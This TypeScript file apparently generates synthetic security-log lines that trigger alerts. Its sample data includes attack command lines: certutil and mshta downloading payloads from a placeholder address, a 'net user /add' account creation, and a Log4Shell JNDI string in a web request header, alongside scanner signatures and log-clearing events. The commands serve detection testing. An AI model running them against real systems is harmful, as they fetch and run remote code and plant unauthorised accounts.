import { syslogLine, webRequest } from './lines/servers.ts'
import { processStarted } from './lines/windows.ts'
import { addedToLocalGroup, securityLogCleared } from './lines/windows-security.ts'
import { isOpen } from './local-time.ts'
import {
  account,
  DOMAIN,
  linuxServer,
  outsideAddress,
  type SampleLine,
  type Scene,
  SOURCES,
  workstation,
} from './scene.ts'

type Finding = (scene: Scene, time: number) => SampleLine

type Weighted = readonly (readonly [weight: number, finding: Finding])[]

const SYSTEM = 'C:\\Windows\\System32'

/** What people at work set off, the mild oftener than the grave. */
const AT_WORK: Weighted = [
  [5, tool('C:\\Users\\Public\\Downloads\\AnyDesk.exe', 'AnyDesk.exe --silent')],
  [3, tool(`${SYSTEM}\\certutil.exe`, 'certutil -urlcache -f http://192.0.2.20/n.exe n.exe')],
  [2, tool('C:\\Users\\Public\\Tor Browser\\tor.exe', 'tor.exe -f torrc')],
  [5, tool('C:\\Program Files\\7-Zip\\7z.exe', '7z.exe a -pClave2026 expediente.7z expediente')],
  [4, tool(`${SYSTEM}\\net.exe`, 'net user practicante Verano2026 /add')],
  [4, routerChanged],
  [4, newAdministrator],
  [1, logCleared],
  [1, tool(`${SYSTEM}\\mshta.exe`, 'mshta.exe http://192.0.2.20/visa.hta')],
  [8, scanner],
]
/** What strangers do at any hour. */
const AT_NIGHT: Weighted = [
  [9, scanner],
  [1, log4shell],
]

/** One event that raises one alert. */
export function findingLine(scene: Scene, time: number): SampleLine {
  const findings = isOpen(scene.office, time) ? AT_WORK : AT_NIGHT
  let at = scene.random.next() * findings.reduce((sum, [weight]) => sum + weight, 0)
  for (const [weight, finding] of findings) {
    at -= weight
    if (at < 0) return finding(scene, time)
  }
  return scanner(scene, time)
}

function tool(image: string, commandLine: string): Finding {
  return ({ office, random }, time) => {
    const number = random.between(1, 40)
    const user = `${DOMAIN}\\${account(number)}`
    return processStarted(workstation(office, number), time, { image, commandLine, user })
  }
}

function scanner({ random }: Scene, time: number): SampleLine {
  const agent = random.pick(['Mozilla/5.00 (Nikto/2.5.0)', 'sqlmap/1.8.4#stable', 'Nuclei - Open-source project'])
  return webRequest(time, {
    from: outsideAddress(random.between(0, 40)),
    path: '/admin/',
    status: 404,
    bytes: 146,
    agent,
  })
}

function log4shell({ random }: Scene, time: number): SampleLine {
  const from = outsideAddress(random.between(0, 40))
  return webRequest(time, { from, path: '/', agent: `\${jndi:ldap://${from}:1389/a}` })
}

function routerChanged({ office, random }: Scene, time: number): SampleLine {
  const text = `%SYS-5-CONFIG_I: Configured from console by admin on vty0 (${outsideAddress(random.between(0, 40))})`
  return syslogLine(time, { host: linuxServer(office, 'rtr'), program: '411', text, source: SOURCES.firewall })
}

function newAdministrator({ office, random }: Scene, time: number): SampleLine {
  const number = random.between(1, 40)
  const group = { group: 'Administradores', groupSid: 'S-1-5-32-544' }
  return addedToLocalGroup(workstation(office, number), time, { by: 'mesa-ayuda2', member: account(number), ...group })
}

function logCleared({ office, random }: Scene, time: number): SampleLine {
  const number = random.between(1, 40)
  return securityLogCleared(workstation(office, number), time, account(number))
}
